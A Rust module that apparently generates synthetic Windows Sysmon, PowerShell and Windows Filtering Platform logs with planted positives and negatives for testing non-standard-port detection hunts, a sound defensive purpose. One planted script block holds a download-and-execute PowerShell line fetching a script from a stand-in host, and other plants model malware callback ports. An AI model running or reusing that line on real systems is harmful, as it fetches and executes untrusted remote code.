//! Windows sources the T1571 (Non-Standard Port) detections read, each with background events
//! and planted positives and look-alike negatives:
//! - `SecurityEvent`: Sysmon Event ID 3 (network connection) in the columns Sigma's
//!   `azure_monitor` backend queries (`NewProcessName` for the image, ports as the strings
//!   Sysmon's EventData holds);
//! - `PowerShellScriptBlock_CL`: PowerShell 4104 script-block logging;
//! - `WindowsEvent`: Windows Filtering Platform 5156/5157/5158 with `EventData` as a dynamic bag,
//!   as Sentinel's Windows Forwarded Events connector stores it.

use std::path::Path;

use serde_json::json;

use crate::event_table::{self, Cell, Row};
use crate::network_session::END;
use crate::rng::Rng;

const SECOND: i64 = 1_000_000_000;
const DAYS: i64 = 3;

/// Planted events happen on 2024-05-01 (the day before `--now 2024-05-03` minus one).
const DAY1: i64 = END - 2 * 86_400 * SECOND;

const HOSTS: [&str; 8] = ["WS-FIN-023", "WS-HR-041", "WS-ENG-088", "WS-OPS-004", "WS-FIN-099", "SRV-APP-10", "SRV-BACKUP-09", "WS-DEV-012"];
const USERS: [&str; 5] = ["jdoe", "akim", "mlee", "rpatel", "svc_backup"];
const PUBLIC: [&str; 8] = ["13.107.42.14", "142.250.74.110", "104.16.132.229", "151.101.1.69", "52.96.165.130", "20.190.160.1", "23.215.0.136", "172.217.18.3"];

fn random_time(rng: &mut Rng) -> i64 {
    END - DAYS * 86_400 * SECOND + rng.range(0, DAYS * 86_400 - 1) * SECOND
}

fn planted_time(minute: i64) -> i64 {
    DAY1 + (9 * 60 + minute) * 60 * SECOND
}

// ---- Sysmon network connections ------------------------------------------------------------

const SYSMON_COLUMNS: [&str; 13] = [
    "Computer", "EventSourceName", "Channel", "EventID", "Activity", "NewProcessName", "User", "Protocol", "Initiated", "SourceIp",
    "SourcePort", "DestinationIp", "DestinationPort",
];

/// A Sysmon Event ID 3 row.
fn sysmon(time: i64, host: &str, image: &str, user: &str, dst: &str, dst_port: i32, src_port: i32) -> Row {
    let src = format!("10.1.{}.{}", host.len(), 20 + host.bytes().map(i32::from).sum::<i32>() % 200);
    let cells: Vec<Cell> = vec![
        host.into(),
        "Microsoft-Windows-Sysmon".into(),
        "Microsoft-Windows-Sysmon/Operational".into(),
        3.into(),
        "3 - Network connection detected".into(),
        image.into(),
        format!("CONTOSO\\{user}").into(),
        "tcp".into(),
        "true".into(),
        src.into(),
        src_port.to_string().into(),
        dst.into(),
        dst_port.to_string().into(),
    ];
    Row { time, cells }
}

/// Planted Sysmon connections: (host, image, user, destination, port, what the hunts must do).
pub const SYSMON_PLANTS: &[(&str, &str, &str, &str, i32, &str)] = &[
    ("WS-FIN-023", r"C:\Users\jdoe\AppData\Roaming\svcupd.exe", "jdoe", "45.77.65.211", 4444, "found: malware callback port"),
    ("WS-HR-041", r"C:\ProgramData\Intel\igfxtray.exe", "akim", "185.220.101.7", 7777, "found: malware callback port"),
    ("SRV-APP-10", r"C:\Windows\Temp\dllhost32.exe", "svc_backup", "203.0.113.99", 1443, "found: malware callback port"),
    ("WS-HR-041", r"C:\Users\akim\Downloads\invoice_viewer.exe", "akim", "198.51.100.23", 8080, "found: uncommon port 8080"),
    ("SRV-BACKUP-09", r"C:\Program Files\Veeam\Backup\VeeamAgent.exe", "svc_backup", "52.31.4.4", 4443, "ignored: under C:\\Program Files"),
    ("WS-OPS-004", r"C:\Program Files (x86)\Riot Games\launcher.exe", "rpatel", "104.16.2.2", 7777, "ignored: under C:\\Program Files (x86)"),
    ("WS-ENG-088", r"C:\Users\mlee\tools\ncat.exe", "mlee", "10.20.0.5", 4444, "ignored: private destination"),
    ("WS-ENG-088", r"C:\Users\mlee\tools\ncat.exe", "mlee", "127.0.0.1", 4444, "ignored: loopback destination"),
    ("WS-ENG-088", r"C:\Users\mlee\AppData\Local\Programs\Python\Python311\python.exe", "mlee", "192.168.1.10", 8888, "ignored: private destination"),
];

pub fn write_sysmon(out: &Path, rows: usize, seed: u64) -> Result<String, String> {
    let mut rng = Rng::new(seed);
    let mut events = Vec::with_capacity(rows + SYSMON_PLANTS.len());
    // Background: browsers and updaters under Program Files, Windows services, Teams from the
    // user profile; all on standard ports, except Java (under Program Files) on 8080.
    for _ in 0..rows {
        let host = *rng.pick(&HOSTS);
        let user = *rng.pick(&USERS);
        let time = random_time(&mut rng);
        let src_port = rng.range(49152, 65535) as i32;
        let teams = format!(r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe");
        let (image, dst, port) = match rng.below(6) {
            0 => (r"C:\Program Files\Google\Chrome\Application\chrome.exe", *rng.pick(&PUBLIC), *rng.pick(&[443, 443, 80])),
            1 => (r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", *rng.pick(&PUBLIC), 443),
            2 => (r"C:\Windows\System32\svchost.exe", "10.0.0.2", 53),
            3 => (r"C:\Windows\System32\lsass.exe", "10.0.0.10", *rng.pick(&[88, 389])),
            4 => (r"C:\Program Files\Java\jre1.8.0_391\bin\java.exe", *rng.pick(&PUBLIC), *rng.pick(&[443, 8080])),
            _ => (teams.as_str(), *rng.pick(&PUBLIC), 443),
        };
        events.push(sysmon(time, host, image, user, dst, port, src_port));
    }
    for (i, (host, image, user, dst, port, _)) in SYSMON_PLANTS.iter().enumerate() {
        events.push(sysmon(planted_time(7 * i as i64), host, image, user, dst, *port, 50_000 + i as i32));
    }
    let n = event_table::write(out, &SYSMON_COLUMNS, events)?;
    Ok(format!("wrote {n} Sysmon network connections ({} planted) to {}", SYSMON_PLANTS.len(), out.display()))
}

// ---- PowerShell script blocks --------------------------------------------------------------

const POWERSHELL_COLUMNS: [&str; 7] = ["Computer", "EventID", "ScriptBlockText", "ScriptBlockId", "Path", "MessageNumber", "MessageTotal"];

const BENIGN_SCRIPTS: [&str; 8] = [
    "Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item",
    "Import-Module ActiveDirectory; Get-ADUser -Filter * -SearchBase 'OU=Finance,DC=contoso,DC=com'",
    "Get-Service -Name Spooler | Restart-Service -Force",
    "$env:PSModulePath -split ';'",
    "Test-Connection -ComputerName fileserver01 -Count 1 -Quiet",
    "Get-WmiObject -Class Win32_LogicalDisk | Select-Object DeviceID, FreeSpace",
    "Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass -Force",
    "Get-NetTCPConnection -State Listen | Sort-Object LocalPort",
];

/// Planted script blocks: (host, text, what the hunt must do).
pub const POWERSHELL_PLANTS: &[(&str, &str, &str)] = &[
    ("WS-FIN-023", "Test-NetConnection -ComputerName 45.77.65.211 -Port 4444 -InformationLevel Quiet", "found: uncommon port 4444"),
    ("WS-HR-041", "$r = Test-NetConnection -ComputerName files.contoso-cdn.net -port 8443\nif ($r.TcpTestSucceeded) { iex (iwr http://files.contoso-cdn.net:8443/a.ps1) }", "found: uncommon port 8443"),
    ("WS-OPS-004", "Test-NetConnection -ComputerName www.microsoft.com -Port 443 -InformationLevel Detailed", "ignored: port 443"),
    ("WS-OPS-004", "Test-NetConnection -ComputerName intranet.contoso.com -Port 80 | Select-Object TcpTestSucceeded", "ignored: port 80"),
    ("WS-ENG-088", "Test-NetConnection -ComputerName dc01.contoso.com", "ignored: no -Port"),
    ("WS-ENG-088", "Test-Connection -ComputerName 10.0.0.1 -Count 1", "ignored: not Test-NetConnection"),
];

fn script_block(rng: &mut Rng, time: i64, host: &str, text: &str) -> Row {
    let id = format!("{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}", rng.next_u64() as u32, rng.below(0x10000), rng.below(0x1000), rng.below(0x1000), rng.below(1 << 48));
    Row { time, cells: vec![host.into(), 4104.into(), text.into(), id.into(), "".into(), 1.into(), 1.into()] }
}

pub fn write_powershell(out: &Path, rows: usize, seed: u64) -> Result<String, String> {
    let mut rng = Rng::new(seed);
    let mut events = Vec::with_capacity(rows + POWERSHELL_PLANTS.len());
    for _ in 0..rows {
        let host = *rng.pick(&HOSTS);
        let text = *rng.pick(&BENIGN_SCRIPTS);
        let time = random_time(&mut rng);
        events.push(script_block(&mut rng, time, host, text));
    }
    for (i, (host, text, _)) in POWERSHELL_PLANTS.iter().enumerate() {
        events.push(script_block(&mut rng, planted_time(5 * i as i64 + 3), host, text));
    }
    let n = event_table::write(out, &POWERSHELL_COLUMNS, events)?;
    Ok(format!("wrote {n} PowerShell script blocks ({} planted) to {}", POWERSHELL_PLANTS.len(), out.display()))
}

// ---- Windows Filtering Platform ------------------------------------------------------------

const WFP_COLUMNS: [&str; 7] = ["Computer", "Channel", "Provider", "EventID", "Task", "EventLevelName", "EventData"];

const OUTBOUND: &str = "%%14593";
const INBOUND: &str = "%%14592";

/// A WFP event: 5156 (connection permitted), 5157 (blocked) with both ends, 5158 (bind) with
/// the local end only.
fn wfp(time: i64, host: &str, event_id: i32, app: &str, direction: &str, local_port: i32, remote: &str, remote_port: i32) -> Row {
    let local = "10.1.5.23";
    let data = if event_id == 5158 {
        json!({"ProcessId": "4242", "Application": app, "SourceAddress": "0.0.0.0", "SourcePort": local_port.to_string(), "Protocol": "6", "FilterRTID": "0", "LayerName": "%%14608", "LayerRTID": "36"})
    } else {
        let (src, src_port, dst, dst_port) = if direction == OUTBOUND { (local, local_port, remote, remote_port) } else { (remote, remote_port, local, local_port) };
        json!({"ProcessID": "4242", "Application": app, "Direction": direction, "SourceAddress": src, "SourcePort": src_port.to_string(),
               "DestAddress": dst, "DestPort": dst_port.to_string(), "Protocol": "6", "FilterRTID": "0", "LayerName": "%%14611", "LayerRTID": "48"})
    };
    Row { time, cells: vec![host.into(), "Security".into(), "Microsoft-Windows-Security-Auditing".into(), event_id.into(), 12810.into(), "Information".into(), data.into()] }
}

const VOLUME: &str = r"\device\harddiskvolume2";

/// Planted WFP events: (host, event, application under the volume, direction, local port,
/// remote address, remote port, what the hunt must do).
pub const WFP_PLANTS: &[(&str, i32, &str, &str, i32, &str, i32, &str)] = &[
    ("WS-FIN-023", 5156, r"\users\jdoe\appdata\roaming\svcupd.exe", OUTBOUND, 50_123, "45.77.65.211", 4444, "found: outbound to port 4444"),
    ("WS-HR-041", 5157, r"\programdata\intel\igfxtray.exe", OUTBOUND, 50_456, "185.220.101.7", 8531, "found: blocked outbound to port 8531"),
    ("SRV-APP-10", 5158, r"\users\public\svchost.exe", "", 4444, "", 0, "found: bind on port 4444"),
    ("WS-FIN-023", 5156, r"\users\jdoe\appdata\roaming\svcupd.exe", OUTBOUND, 50_124, "45.77.65.211", 443, "ignored: standard port"),
    ("WS-ENG-088", 5156, r"\users\mlee\appdata\roaming\npm\node.exe", INBOUND, 3000, "10.1.7.5", 51_000, "ignored: inbound"),
    ("WS-FIN-023", 5158, r"\users\jdoe\appdata\local\slack\app-4.36.140\slack.exe", "", 52_344, "", 0, "ignored: ephemeral bind"),
    ("SRV-APP-10", 5156, r"\program files\java\jre1.8.0_391\bin\java.exe", OUTBOUND, 50_789, "52.31.4.4", 8080, "ignored: under Program Files"),
];

pub fn write_wfp(out: &Path, rows: usize, seed: u64) -> Result<String, String> {
    let mut rng = Rng::new(seed);
    let mut events = Vec::with_capacity(rows + WFP_PLANTS.len());
    // Background: outbound web and DNS from Windows and Program Files, ephemeral binds, and
    // inbound SMB/RDP to the system.
    for _ in 0..rows {
        let host = *rng.pick(&HOSTS);
        let time = random_time(&mut rng);
        let ephemeral = rng.range(49152, 65535) as i32;
        let event = match rng.below(5) {
            0 => wfp(time, host, 5156, &format!(r"{VOLUME}\windows\system32\svchost.exe"), OUTBOUND, ephemeral, "10.0.0.2", 53),
            1 => wfp(time, host, 5156, &format!(r"{VOLUME}\program files\google\chrome\application\chrome.exe"), OUTBOUND, ephemeral, *rng.pick(&PUBLIC), 443),
            2 => wfp(time, host, 5158, &format!(r"{VOLUME}\program files\google\chrome\application\chrome.exe"), "", ephemeral, "", 0),
            3 => wfp(time, host, 5156, "System", INBOUND, *rng.pick(&[445, 3389]), "10.1.9.9", ephemeral),
            _ => wfp(time, host, 5157, &format!(r"{VOLUME}\windows\system32\svchost.exe"), OUTBOUND, ephemeral, *rng.pick(&PUBLIC), 80),
        };
        events.push(event);
    }
    for (i, (host, id, app, direction, local_port, remote, remote_port, _)) in WFP_PLANTS.iter().enumerate() {
        events.push(wfp(planted_time(4 * i as i64 + 1), host, *id, &format!("{VOLUME}{app}"), direction, *local_port, remote, *remote_port));
    }
    let n = event_table::write(out, &WFP_COLUMNS, events)?;
    Ok(format!("wrote {n} Windows Filtering Platform events ({} planted) to {}", WFP_PLANTS.len(), out.display()))
}
